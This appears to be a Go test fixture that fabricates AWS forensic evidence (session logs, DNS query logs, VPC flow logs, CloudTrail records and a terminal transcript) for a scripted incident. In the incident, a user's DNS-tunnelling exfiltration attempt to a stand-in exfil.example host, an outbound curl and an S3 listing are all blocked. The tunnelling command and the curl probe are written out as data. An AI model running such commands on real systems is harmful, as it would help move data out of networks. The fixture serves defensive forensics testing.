package forensicstest

import (
	"fmt"
	"time"
)

// Offsets of the scripted scenario's steps from its start.
const (
	AtStartSession     = 0 * time.Second
	AtResolveSSM       = 2 * time.Second
	AtEndpointFlow     = 3 * time.Second
	AtFirstCommand     = 10 * time.Second
	AtTunnelQuery      = 11 * time.Second
	AtSecondCommand    = 20 * time.Second
	AtRejectedFlow     = 21 * time.Second
	AtThirdCommand     = 30 * time.Second
	AtDeniedCall       = 32 * time.Second
	AtTerminateSession = 60 * time.Second
	AtTranscriptDone   = 61 * time.Second
)

// The scenario's three commands and the evidence they leave.
const (
	TunnelName     = "aGVsbG8td29ybGQ.t.exfil.example."
	FirstCommand   = "dig +short TXT " + TunnelName
	SecondCommand  = "curl -m 5 https://203.0.113.10/"
	ThirdCommand   = "aws s3 ls"
	RejectedDst    = "203.0.113.10"
	EndpointAddr   = "10.0.1.100"
	SSMEndpoint    = "ssm.us-east-1.amazonaws.com."
	DeniedErrCode  = "AccessDenied"
	TerminatedBy   = Operator
	TranscriptKey  = TranscriptDir + "/" + SessionID + ".log"
	OtherPrincipal = "arn:aws:iam::123456789012:user/bob"
)

// Scenario is the scripted evaluation: alice opens a session, types three commands (a DNS
// tunnelling attempt the DNS Firewall blocks, a connection the security group rejects, and an
// S3 call IAM denies), then ends the session. Around it lies ordinary evidence (the agent's own
// DNS query and endpoint connection) and noise the reader must ignore: a flow log NODATA
// record and a call by another principal.
func Scenario(start time.Time) *Evidence {
	start = start.UTC().Truncate(time.Second)
	e := newEvidence()
	at := func(d time.Duration) time.Time { return start.Add(d) }

	e.putLog(SessionGroup, SessionID, at(AtFirstCommand),
		sessionStreamRecord(at(AtFirstCommand), "sh-5.2$ "+FirstCommand))
	e.putLog(SessionGroup, SessionID, at(AtSecondCommand),
		sessionStreamRecord(at(AtSecondCommand), "sh-5.2$ "+SecondCommand,
			"curl: (28) Connection timed out after 5001 milliseconds"))
	e.putLog(SessionGroup, SessionID, at(AtThirdCommand),
		sessionStreamRecord(at(AtThirdCommand), "sh-5.2$ "+ThirdCommand,
			"An error occurred (AccessDenied) when calling the ListBuckets operation: "+
				"Access Denied"))

	dnsStream := "vpc-0123456789abcdef0_" + InstanceID
	e.putLog(DNSGroup, dnsStream, at(AtResolveSSM),
		QueryLogRecord(at(AtResolveSSM), SSMEndpoint, "A", "NOERROR", "", EndpointAddr))
	e.putLog(DNSGroup, dnsStream, at(AtTunnelQuery),
		QueryLogRecord(at(AtTunnelQuery), TunnelName, "TXT", "NXDOMAIN", "BLOCK"))

	flowStream := ENI + "-all"
	e.putLog(FlowGroup, flowStream, at(AtEndpointFlow),
		FlowLogRecord(at(AtEndpointFlow), HostAddress, EndpointAddr, 43310, 443, 6, "ACCEPT"))
	e.putLog(FlowGroup, flowStream, at(AtRejectedFlow),
		FlowLogRecord(at(AtRejectedFlow), HostAddress, RejectedDst, 40112, 443, 6, "REJECT"))
	e.putLog(FlowGroup, flowStream, at(AtRejectedFlow+time.Second),
		fmt.Sprintf("2 %s %s - - - - - - - %d %d - NODATA", AccountID, ENI,
			at(AtRejectedFlow).Unix(), at(AtRejectedFlow+time.Minute).Unix()))

	records := []map[string]any{
		trailRecord(at(AtStartSession), operatorIdentity(), "ssm.amazonaws.com", "StartSession",
			"198.51.100.7", "",
			map[string]string{"target": InstanceID, "documentName": "crucible-session"},
			map[string]string{
				"sessionId":  SessionID,
				"tokenValue": "Value hidden due to security reasons.",
				"streamUrl": "wss://ssmmessages.us-east-1.amazonaws.com/v1/data-channel/" +
					SessionID + "?role=publish_subscribe",
			}),
		trailRecord(at(AtDeniedCall), hostIdentity(), "s3.amazonaws.com", "ListBuckets",
			HostAddress, DeniedErrCode, map[string]string{"Host": "s3.us-east-1.amazonaws.com"},
			nil),
		trailRecord(at(AtDeniedCall), map[string]any{
			"type": "IAMUser", "arn": OtherPrincipal, "accountId": AccountID,
		}, "ec2.amazonaws.com", "DescribeInstances", "198.51.100.8", "", nil, nil),
		trailRecord(at(AtTerminateSession), operatorIdentity(), "ssm.amazonaws.com",
			"TerminateSession", "198.51.100.7", "", map[string]string{"sessionId": SessionID},
			map[string]string{"sessionId": SessionID}),
	}
	e.putObject(TrailBucket, TrailKey(at(AtStartSession), "Scenario0000001"), TrailFile(records...))

	e.putObject(AuditBucket, TranscriptKey, []byte(Transcript(at(AtTranscriptDone))))
	return e
}

// Transcript is the S3 transcript util-linux script writes at the end of the scenario's session:
// the raw terminal text, colour sequences and carriage returns included, between script's
// header and trailer.
func Transcript(done time.Time) string {
	stamp := done.UTC().Format("2006-01-02 15:04:05+00:00")
	return "Script started on " + stamp + " [COMMAND=\"cat /var/lib/amazon/ssm/" + InstanceID +
		"/session/orchestration/" + SessionID + "/Standard_Stream/ipcTempFile.log\" " +
		"TERM=\"xterm-256color\" TTY=\"/dev/pts/0\" COLUMNS=\"120\" LINES=\"40\"]\r\n" +
		"\x1b[?2004hsh-5.2$ " + FirstCommand + "\r\n" +
		"\x1b[?2004l\rsh-5.2$ " + SecondCommand + "\r\n" +
		"curl: (28) Connection timed out after 5001 milliseconds\r\n" +
		"sh-5.2$ " + ThirdCommand + "\r\n" +
		"\x1b[31mAn error occurred (AccessDenied) when calling the ListBuckets operation: " +
		"Access Denied\x1b[0m\r\n" +
		"sh-5.2$ exit\r\n" +
		"exit\r\n" +
		"\r\n" +
		"Script done on " + stamp + " [COMMAND_EXIT_CODE=\"0\"]\n"
}
